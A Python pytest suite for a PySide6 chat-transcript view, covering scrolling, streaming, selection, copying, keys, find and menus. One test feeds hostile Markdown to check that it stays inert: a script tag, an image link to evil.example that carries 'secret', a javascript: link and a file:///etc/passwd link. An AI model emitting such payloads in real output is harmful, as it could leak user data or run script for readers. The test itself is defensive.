"""The transcript as it is used: scrolling, streaming, selecting, finding, commands."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from PySide6.QtCore import QEvent, QPoint, QPointF, Qt
from PySide6.QtGui import QGuiApplication, QWheelEvent
from PySide6.QtWidgets import QApplication

from studio.domain.conversation import (
    MessageError,
    MessageState,
    ReasoningPiece,
    TextPiece,
    ToolCallPiece,
    ToolState,
)
from studio.qt_models.transcript import TranscriptModel
from studio.ui.theme import Theme
from studio.ui.transcript.canvas import KEPT_SCREENS, NEAR_END
from studio.ui.transcript.item import Item
from studio.ui.transcript.keys import next_control
from studio.ui.transcript.menu import message_menu
from studio.ui.transcript.ordering import OF_THE_TURN
from studio.ui.transcript.parts import Control
from studio.ui.transcript.pill import NewLinesPill
from studio.ui.transcript.pointing import visible_controls
from studio.ui.transcript.sections import TextSection
from studio.ui.transcript.streaming import FLUSH_MS, SLOWEST_MS
from studio.ui.transcript.view import TranscriptView
from tests.ui.transcript.made import STREAMING, answer, long_talk, node, question, show


@pytest.fixture
def view(qtbot, theme: Theme) -> Iterator[TranscriptView]:
    made = TranscriptView(theme)
    made.resize(900, 600)
    qtbot.addWidget(made)
    with qtbot.waitExposed(made):
        made.show()
    yield made
    made.stop()


def control(view: TranscriptView, row: int, name: str) -> tuple[object, Control]:
    return next((s, c) for s, c in visible_controls(view, row) if c.name == name)


def press(qtbot, view: TranscriptView, row: int, name: str) -> None:
    section, found = control(view, row, name)
    rect = view.section_rect(row, section, found.rect)
    qtbot.mouseClick(view.viewport(), Qt.MouseButton.LeftButton, pos=rect.center())


def wheel(view: TranscriptView, steps: int) -> None:
    where = QPointF(view.viewport().rect().center())
    event = QWheelEvent(
        where, QPointF(view.viewport().mapToGlobal(where.toPoint())), QPoint(), QPoint(0, 120 * steps),
        Qt.MouseButton.NoButton, Qt.KeyboardModifier.NoModifier, Qt.ScrollPhase.NoScrollPhase, False,
    )  # fmt: skip
    QApplication.sendEvent(view.viewport(), event)


def text_sections(view: TranscriptView, row: int) -> list[TextSection]:
    item = view.item(row)
    assert item is not None
    return item.text_sections()


def text_point(view: TranscriptView, row: int, offset: int) -> QPoint:
    """Where a character of a row's first text is in the viewport."""
    section = text_sections(view, row)[0]
    box = section.box(0)
    assert box is not None
    return view.section_rect(row, section, box.rect_at(offset)).center() + QPoint(1, 0)


# ---------------------------------------------------------------- where it stands


def test_opens_at_the_end_and_asks_only_for_what_is_near(view: TranscriptView, qtbot) -> None:
    messages = long_talk(400)
    asked: list[str] = []
    model = view.model()
    model.needed.connect(asked.extend)
    model.needed.connect(lambda ids: model.put([m for m in messages if m.id in ids]))
    model.reset([node(m) for m in messages], {})
    qtbot.waitUntil(lambda: model.is_loaded(len(model.turns) - 1))
    assert view.following
    assert "a399" in asked
    assert "a10" not in asked
    assert len(view._items) < 40
    bar = view.verticalScrollBar()
    assert bar.value() == bar.maximum() > 10_000


def test_what_is_read_stays_when_contents_above_arrive(view: TranscriptView, qtbot) -> None:
    messages = long_talk(60, words=200)
    model = view.model()
    model.reset([node(m) for m in messages], {})
    model.put([m for m in messages if m.id == "a30"])
    assert view.go_to("a30")
    before = view.row_top(61) - view._top
    model.put(messages[:60])
    model.put(messages[62:])
    qtbot.wait(50)
    assert abs(view.row_top(61) - view._top - before) <= 1


def test_a_place_is_found_again(view: TranscriptView, qtbot) -> None:
    messages = long_talk(50)
    show(view.model(), messages)
    view.scroll_to(2000)
    qtbot.wait(20)
    place = view.place()
    assert not place.following
    model = view.model()
    model.reset([node(question("other", "else"))], {})
    model.reset([node(m) for m in messages], {})
    view.restore(place)
    qtbot.wait(20)
    assert view.place().message_id == place.message_id
    assert abs(view.place().below - place.below) <= 1


def test_another_width_keeps_the_message_in_view(view: TranscriptView, qtbot) -> None:
    show(view.model(), long_talk(50, words=120))
    view.scroll_to(3000)
    first = view.place().message_id
    view.resize(560, 600)
    qtbot.wait(20)
    assert view.place().message_id == first
    assert view.column_width() < 560


# ---------------------------------------------------------------- streaming


def start_answer(view: TranscriptView, before: int = 20) -> None:
    messages = long_talk(before)
    asked = question("q", "Go on", messages[-1].id if messages else "")
    show(view.model(), [*messages, asked, answer("live", "q", state=STREAMING)])
    view.to_end()


def test_the_end_is_followed_while_text_comes(view: TranscriptView, qtbot) -> None:
    start_answer(view)
    for _ in range(60):
        view.model().stream("live", 0, "text", "more words come in and wrap around the line " * 4 + "\n\n")
        view.flush()
    bar = view.verticalScrollBar()
    assert view.following
    assert bar.value() == bar.maximum()
    assert len(text_sections(view, view.model().row_of("live"))[-1].document.blocks) == 60


def test_the_wheel_releases_the_end_and_the_pill_leads_back(view: TranscriptView, qtbot) -> None:
    start_answer(view)
    wheel(view, 1)
    assert not view.following
    before = view._top
    for _ in range(10):
        view.model().stream("live", 0, "text", "A line of its own.\n\n")
        view.flush()
    assert view._top == before
    assert view.pill.isVisible()
    assert view.pill.lines >= 10
    qtbot.mouseClick(view.pill, Qt.MouseButton.LeftButton)
    assert view.following
    assert not view.pill.isVisible()


def test_settled_blocks_are_not_made_again(view: TranscriptView, qtbot) -> None:
    start_answer(view, before=0)
    view.model().stream("live", 0, "text", "First.\n\nSecond")
    view.flush()
    section = text_sections(view, 1)[0]
    box = section.box(0)
    view.model().stream("live", 0, "text", " goes on.\n\nThird.")
    view.flush()
    assert text_sections(view, 1)[0] is section
    assert section.box(0) is box
    assert [section.box(at).text for at in range(section.count)] == ["First.", "Second goes on.", "Third."]
    view.model().put([answer("live", "q", "First.\n\nSecond goes on.\n\nThird.")])
    assert section.box(0) is box
    assert section.document.ended


def test_an_expensive_flush_is_followed_by_a_pause(view: TranscriptView, qtbot) -> None:
    start_answer(view, before=0)
    view._paint_seconds = 0.006
    view.model().stream("live", 0, "text", "x")
    view.flush()
    assert 150 <= view.flush_timer.interval() <= SLOWEST_MS
    assert view.flush_timer.interval() > FLUSH_MS


def test_reasoning_shows_its_last_line_then_its_time(view: TranscriptView, qtbot) -> None:
    start_answer(view, before=0)
    view.model().stream("live", 0, "reasoning", "Let me see.\nFirst the sum")
    view.flush()
    item = view.item(1)
    assert item is not None
    assert "Thinking" in item.spoken()
    view.model().stream("live", 1, "text", "It is 4.")
    view.flush()
    view.model().put([answer("live", "q", ReasoningPiece(text="Let me see.", seconds=4.2), "It is 4.")])
    press(qtbot, view, 1, "Thought for 4 s")
    assert "Let me see." in view.item(1).spoken()
    press(qtbot, view, 1, "Thought for 4 s")
    assert "Let me see." not in view.item(1).spoken()


# ---------------------------------------------------------------- commands


def test_controls_give_commands(view: TranscriptView, qtbot) -> None:
    call = ToolCallPiece(
        id="t", name="generate_image", arguments='{"prompt": "A lamp"}', state=ToolState.ASKED
    )
    show(
        view.model(),
        [
            question("q", "Paint"),
            answer(
                "a", "q", "See [here](https://example.org/x).", call, citations=("https://example.com/s",)
            ),
        ],
        {"a": (2, 3)},
    )
    got: list[tuple[str, str, object]] = []
    view.command.connect(lambda *args: got.append(args))
    press(qtbot, view, 1, "Allow once")
    press(qtbot, view, 1, "Next version")
    press(qtbot, view, 1, "Source 1: example.com")
    press(qtbot, view, 0, "Edit")
    press(qtbot, view, 1, "Ask again")
    assert got == [
        ("permit", "a", ("t", "once")),
        ("version", "a", 1),
        ("open_link", "a", "https://example.com/s"),
        ("edit", "q", None),
        ("regenerate", "a", None),
    ]


def test_links_open_after_a_click_only(view: TranscriptView, qtbot) -> None:
    show(view.model(), [question("q", "Where"), answer("a", "q", "[there](https://example.org/x) it is")])
    got: list[tuple[str, str, object]] = []
    view.command.connect(lambda *args: got.append(args))
    hovered: list[str] = []
    view.link_hovered.connect(hovered.append)
    point = text_point(view, 1, 2)
    qtbot.mouseMove(view.viewport(), point)
    assert not got
    assert hovered[-1] == "https://example.org/x"
    qtbot.mouseClick(view.viewport(), Qt.MouseButton.LeftButton, pos=point)
    assert got == [("open_link", "a", "https://example.org/x")]


def test_an_error_is_under_what_came(view: TranscriptView, qtbot) -> None:
    error = MessageError(title="Too many requests.", actions=(("account.open", "Open account", ""),))
    show(
        view.model(),
        [question("q", "Go"), answer("a", "q", "Half of it", state=MessageState.FAILED, error=error)],
    )
    spoken = view.item(1).spoken()
    assert spoken.index("Half of it") < spoken.index("Too many requests.")
    got: list[tuple[str, str, object]] = []
    view.command.connect(lambda *args: got.append(args))
    press(qtbot, view, 1, "Try again")
    press(qtbot, view, 1, "Open account")
    assert got == [("retry", "a", None), ("action", "a", ("account.open", "Open account", ""))]


def test_dimmed_and_cut_messages_change_nothing_else(view: TranscriptView, qtbot) -> None:
    show(view.model(), long_talk(3))
    before = view.content_height()
    view.set_context(frozenset({"q0", "a0"}), "q1")
    assert view.content_height() > before
    view.grab()
    view.set_context(frozenset(), "")
    assert view.content_height() == before


# ---------------------------------------------------------------- selecting, copying


def drag(qtbot, view: TranscriptView, start: QPoint, end: QPoint) -> None:
    qtbot.mousePress(view.viewport(), Qt.MouseButton.LeftButton, pos=start)
    qtbot.mouseMove(view.viewport(), (start + end) / 2)
    qtbot.mouseMove(view.viewport(), end)
    qtbot.mouseRelease(view.viewport(), Qt.MouseButton.LeftButton, pos=end)


def test_a_selection_across_messages_copies_markdown(view: TranscriptView, qtbot) -> None:
    show(
        view.model(),
        [question("q", "What is bold?"), answer("a", "q", "This **is** bold.\n\n- one\n- two\n")],
    )
    start, end = text_point(view, 0, 5), text_point(view, 1, 8)
    drag(qtbot, view, start, end)
    view.copy()
    assert QGuiApplication.clipboard().text() == "**You:**\n\nis bold?\n\n**Test Model:**\n\nThis **is** "
    view.select_all()
    view.copy()
    assert "This **is** bold.\n\n- one\n- two" in QGuiApplication.clipboard().text()
    view.copy(plain=True)
    assert "This is bold." in QGuiApplication.clipboard().text()


def test_double_and_triple_click(view: TranscriptView, qtbot) -> None:
    show(view.model(), [question("q", "Hi"), answer("a", "q", "Some plain words.\n\nMore.")])
    point = text_point(view, 1, 7)
    qtbot.mouseDClick(view.viewport(), Qt.MouseButton.LeftButton, pos=point)
    view.copy()
    assert QGuiApplication.clipboard().text() == "plain"
    qtbot.mouseClick(view.viewport(), Qt.MouseButton.LeftButton, pos=point)
    view.copy()
    assert QGuiApplication.clipboard().text().strip() == "Some plain words."


def test_selecting_releases_the_end(view: TranscriptView, qtbot) -> None:
    start_answer(view)
    view.model().stream("live", 0, "text", "word " * 50)
    view.flush()
    row = view.model().row_of("live")
    drag(qtbot, view, text_point(view, row, 2), text_point(view, row, 12))
    assert not view.following
    assert view.selection is not None


def test_copying_waits_for_what_is_not_here_yet(view: TranscriptView, qtbot) -> None:
    messages = long_talk(100, words=10)
    model = view.model()
    model.reset([node(m) for m in messages], {})
    view.select_all()
    QGuiApplication.clipboard().setText("before")
    view.copy()
    assert QGuiApplication.clipboard().text() == "before"
    with qtbot.waitSignal(view.copied):
        model.put(messages)
    assert QGuiApplication.clipboard().text().count("**Test Model:**") == 100


# ---------------------------------------------------------------- keys


def test_keys_walk_through_messages_and_controls(view: TranscriptView, qtbot) -> None:
    show(view.model(), long_talk(5, words=10), {"a4": (1, 2)})
    view.activateWindow()
    qtbot.waitUntil(view.isActiveWindow)
    view.clearFocus()
    view.setFocus(Qt.FocusReason.TabFocusReason)
    qtbot.waitUntil(view.hasFocus)
    assert view.current == 9
    got: list[tuple[str, str, object]] = []
    view.command.connect(lambda *args: got.append(args))
    qtbot.keyClick(view, Qt.Key.Key_Right)
    assert got == [("version", "a4", 1)]
    qtbot.keyClick(view, Qt.Key.Key_Up)
    qtbot.keyClick(view, Qt.Key.Key_F2)
    assert got[-1] == ("edit", "q4", None)
    names = []
    for _ in range(3):
        qtbot.keyClick(view, Qt.Key.Key_Tab)
        names.append(view.focused_control.name)
    assert names == ["Copy", "Edit", "More"]
    view.grab()


def test_the_caret_selects_with_shift(view: TranscriptView, qtbot) -> None:
    show(view.model(), [question("q", "Hi"), answer("a", "q", "One two three.\n\nFour.")])
    view.set_current(1)
    view.set_caret_shown(True)
    qtbot.keyClick(view, Qt.Key.Key_Right, Qt.KeyboardModifier.ControlModifier)
    qtbot.keyClick(view, Qt.Key.Key_End, Qt.KeyboardModifier.ShiftModifier)
    qtbot.keyClick(view, Qt.Key.Key_Right, Qt.KeyboardModifier.ShiftModifier)
    qtbot.keyClick(view, Qt.Key.Key_End, Qt.KeyboardModifier.ShiftModifier)
    view.copy(plain=True)
    assert QGuiApplication.clipboard().text().split() == ["two", "three.", "Four."]


def test_next_code_block(view: TranscriptView, qtbot) -> None:
    show(
        view.model(),
        [question("q", "Code"), answer("a", "q", "One\n\n```py\nfirst()\n```\n\ntext\n\n```\nsecond()\n```")],
    )
    assert view.next_code()
    view.copy(plain=True)
    assert QGuiApplication.clipboard().text() == "first()"
    assert view.next_code()
    view.copy(plain=True)
    assert QGuiApplication.clipboard().text() == "second()"
    assert not view.next_code()


# ---------------------------------------------------------------- find


def test_find_goes_from_hit_to_hit(view: TranscriptView, qtbot) -> None:
    messages = long_talk(30, words=10)
    messages[41] = answer("a20", "q20", "A needle here and a Needle there.")
    show(view.model(), messages)
    view.scroll_to(0)
    state = view.find("needle")
    assert tuple(state) == (1, 1)
    assert view.selection.start[0] == 41
    first = view.selection.start
    view.find("needle")
    assert view.selection.start > first
    view.find("needle", -1)
    assert view.selection.start == first
    assert view.place().message_id in ("a20", "q20", "a19", "q19")
    view.end_find()
    assert tuple(view.find("nowhere at all")) == (0, 0)


def test_go_to_a_hit_that_is_not_loaded(view: TranscriptView, qtbot) -> None:
    messages = long_talk(200, words=10)
    messages[101] = answer("a50", "q50", "The treasure is here.")
    model = view.model()
    model.needed.connect(lambda ids: model.put([m for m in messages if m.id in ids]))
    model.reset([node(m) for m in messages], {})
    assert view.go_to("a50", "treasure")
    qtbot.waitUntil(lambda: view.selection is not None)
    view.copy()
    assert QGuiApplication.clipboard().text() == "treasure"
    assert not view.go_to("gone")


# ---------------------------------------------------------------- odd contents


@pytest.mark.parametrize("dark", [False, True])
def test_everything_paints(view: TranscriptView, qtbot, theme: Theme, dark: bool) -> None:
    done = ToolCallPiece(id="t", name="google_search", arguments='{"query": "x"', result="{}", seconds=2.0)
    show(
        view.model(),
        [
            question("q", "Look ``` at\n```py\nx = 1\n```\nthis"),
            answer("a", "q", ReasoningPiece(text="Hm."), done, "| a | b |\n|---|---|\n| 1 | 2 |\n\n$x^2$"),
        ],
    )
    theme.set_mode("dark" if dark else "light")
    theme.set_font_scale(1.5)
    for name in ("Thought", "Searched the web"):
        view.show_row(1)
        press(qtbot, view, 1, name)
    assert not view.grab().isNull()
    view.set_raw(1, True)
    assert "| a | b |" in view.item(1).spoken()
    view.resize(320, 400)
    view.grab()


def test_hostile_text_is_only_text(view: TranscriptView, qtbot) -> None:
    hostile = (
        "<script>alert(1)</script>\n\n![x](https://evil.example/?q=secret)\n\n"
        "[y](javascript:alert(1)) [z](file:///etc/passwd)\n\n" + "- item\n" * 2000 + "```\n" + "x" * 200_000
    )
    show(view.model(), [question("q", "?"), answer("a", "q", hostile)])
    got: list[object] = []
    view.command.connect(lambda *args: got.append(args))
    view.scroll_to(0)
    view.grab()
    qtbot.waitUntil(lambda: not view.flush_timer.isActive())
    view.scroll_to(5000)
    view.grab()
    assert not got
    assert not any(c.is_link for _s, c in visible_controls(view, 1))


def test_another_model_is_shown(view: TranscriptView, qtbot) -> None:
    show(view.model(), long_talk(3))
    other = TranscriptModel()
    show(other, [question("x", "Elsewhere")])
    view.set_model(other)
    assert len(view._rows) == 1
    view.set_model(TranscriptModel())
    view.grab()


def test_leaving_takes_the_hover_away(view: TranscriptView, qtbot) -> None:
    show(view.model(), long_talk(2))
    qtbot.mouseMove(view.viewport(), text_point(view, 3, 3))
    assert view._hovered_row == 3
    QApplication.sendEvent(view.viewport(), QEvent(QEvent.Type.Leave))
    assert view._hovered_row == -1


def test_text_pieces_with_nothing_are_no_sections(view: TranscriptView, qtbot) -> None:
    show(view.model(), [question("q", "?"), answer("a", "q", TextPiece(text=""), "Yes")])
    assert len(text_sections(view, 1)) == 1


def test_the_menu_tells_what_can_be_done(view: TranscriptView, qtbot) -> None:
    show(view.model(), [question("q", "Hi"), answer("a", "q", "Hello")])
    got: list[tuple[str, str, object]] = []
    view.command.connect(lambda *args: got.append(args))
    menu = message_menu(view, 1, "https://example.org/x")
    actions = {action.text(): action for action in menu.actions() if action.text()}
    for name in (
        "Ask another model…",
        "Branch into new chat",
        "Keep in what is sent",
        "Leave out of what is sent",
    ):
        actions[name].trigger()
    assert got == [
        ("regenerate_with", "a", None),
        ("fork", "a", None),
        ("pin", "a", True),
        ("include", "a", False),
    ]
    actions["Show source"].trigger()
    assert view.is_raw(1)
    actions["Copy address"].trigger()
    assert QGuiApplication.clipboard().text() == "https://example.org/x"
    menu.deleteLater()


def test_far_items_are_let_go(view: TranscriptView, qtbot) -> None:
    show(view.model(), long_talk(300, words=30))
    for _ in range(60):
        view.scroll_by(-900)
        view._lay_out_ahead()
    span = sum(item.height for item in view._items.values())
    assert span < view.viewport().height() * (2 * KEPT_SCREENS + 3)
    assert all(isinstance(item, Item) for item in view._items.values())


def test_near_the_end_is_following_again(view: TranscriptView, qtbot) -> None:
    show(view.model(), long_talk(30))
    wheel(view, 2)
    assert not view.following
    assert isinstance(view.pill, NewLinesPill)
    view.scroll_to(view._last_top() - NEAR_END)
    assert view.following


def test_tab_leaves_after_the_last_control(view: TranscriptView, qtbot) -> None:
    show(view.model(), long_talk(1))
    controls = visible_controls(view, 0)
    assert next_control(controls, controls[-1], 1) is None
    assert next_control(controls, controls[0], -1) is None
    assert next_control(controls, None, 1) == 0
    assert next_control([], None, 1) is None


def test_commands_name_the_right_message_of_an_answer_with_tools(view: TranscriptView, qtbot) -> None:
    messages = [question("q", "Hi"), answer("a", "q", "First."), answer("b", "a", "Then.")]
    show(view.model(), messages, {"a": (1, 2)})
    got: list[tuple[str, str, object]] = []
    view.command.connect(lambda *args: got.append(args))
    for verb in (*OF_THE_TURN, "continue", "fork"):
        view.order(verb, 1)
    view.remove_row(1)
    assert [(verb, message_id) for verb, message_id, _argument in got] == [
        ("regenerate", "a"),
        ("regenerate_with", "a"),
        ("version", "a"),
        ("continue", "b"),
        ("fork", "b"),
        ("remove", "a"),
    ]


def test_a_number_in_the_text_leads_to_its_citation(view: TranscriptView, qtbot) -> None:
    text = "Twice a day [1], and `x[1]`."
    show(view.model(), [question("q", "Tides"), answer("a", "q", text)])
    got: list[tuple[str, str, object]] = []
    view.command.connect(lambda *args: got.append(args))
    point = text_point(view, 1, text.index("1"))
    qtbot.mouseClick(view.viewport(), Qt.MouseButton.LeftButton, pos=point)
    assert not got
    view.model().put([answer("a", "q", text, citations=("https://example.com/s",))])
    qtbot.mouseClick(view.viewport(), Qt.MouseButton.LeftButton, pos=point)
    assert got == [("open_link", "a", "https://example.com/s")]
